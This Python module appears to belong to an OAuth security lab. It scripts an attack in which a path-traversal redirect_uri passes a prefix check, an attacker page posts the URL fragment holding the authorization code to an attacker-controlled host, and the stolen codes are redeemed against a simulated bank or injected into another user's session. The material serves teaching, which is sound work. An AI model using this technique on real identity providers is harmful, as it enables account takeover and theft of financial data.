"""One door at Balance, one at Budget; a code comes through each, and one of them is worth something."""

from typing import Any

from flask import Response, render_template

from labs.stage import Stage, Stuck
from labs.steps import step

SCRIPT = """
const form = document.createElement("form");
form.method = "post";
form.action = "/home";  // a URL without the fragment
for (const [name, value] of new URLSearchParams(location.hash.slice(1))) {
  form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
}
document.body.append(form);
if (location.hash) form.submit();
"""


def page(world: Any) -> Response:
    """Return a page that sends the fragment of its own URL home."""
    answer = Response(render_template("pages/nothing.html", script=SCRIPT))
    answer.headers["Content-Security-Policy"] = "default-src 'none'; style-src 'self'; script-src 'unsafe-inline'"
    return answer


PAGES = {"/door": page}


def link_through(stage: Stage, client_id: str, **changes: str) -> str:
    """Return a request whose redirect URI begins with the app's, and leaves through its door."""
    # As text it begins with the registered one; browsers resolve `..` before they ask, and so ask for `/leave`.
    redirect_uri = f"{stage.callback(client_id)}/../leave?to={stage.here.attacker}/door"
    stage.kept["redirect_uri"] = redirect_uri
    return stage.link(client_id, redirect_uri, response_mode="fragment", **changes)


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Make a link to Bank ID in Balance's name, which comes back through Balance's door."""
    stage.onward = link_through(stage, "balance")


@step("Alice")
def alice_follows_the_link(stage: Stage) -> None:
    """Follow the link, sign in as alice, and allow. Look at the URL that you end at."""
    stage.lead_alice().agree().rest()


@step("attacker")
def spends_the_code(stage: Stage) -> None:
    """Redeem the code that came, with the attacker's own verifier, and ask the bank."""
    if not stage.collection.newest("code"):
        return  # there is another door to try
    if token := stage.redeem_newest("balance", stage.kept["redirect_uri"]):
        stage.attacker.bank("GET", "/accounts", token)


@step("attacker")
def makes_another_link(stage: Stage) -> None:
    """Make the same link in Budget's name; its challenge is that of a flow which Mallory has begun at Budget."""
    stage.onward = link_through(stage, "budget", code_challenge=stage.mallory_begins()["code_challenge"])


@step("Alice")
def alice_follows_that_one(stage: Stage) -> None:
    """Follow this link, too, and allow."""
    stage.lead_alice().agree().rest()


@step("attacker")
def tries_the_code_of_budget(stage: Stage) -> None:
    """Try this code at Bank ID, where the secret is missing; then put it into Mallory's session at Budget."""
    code = stage.collection.newest("code")
    if not code:
        raise Stuck("no code of Budget's came to the attacker")
    # It fails, for Budget proves who it is by a secret. Balance is public: there the code alone was enough.
    stage.attacker.redeem(code, client_id="budget", redirect_uri=stage.kept["redirect_uri"])
    stage.mallory_comes_back(stage.callback("budget"), code)
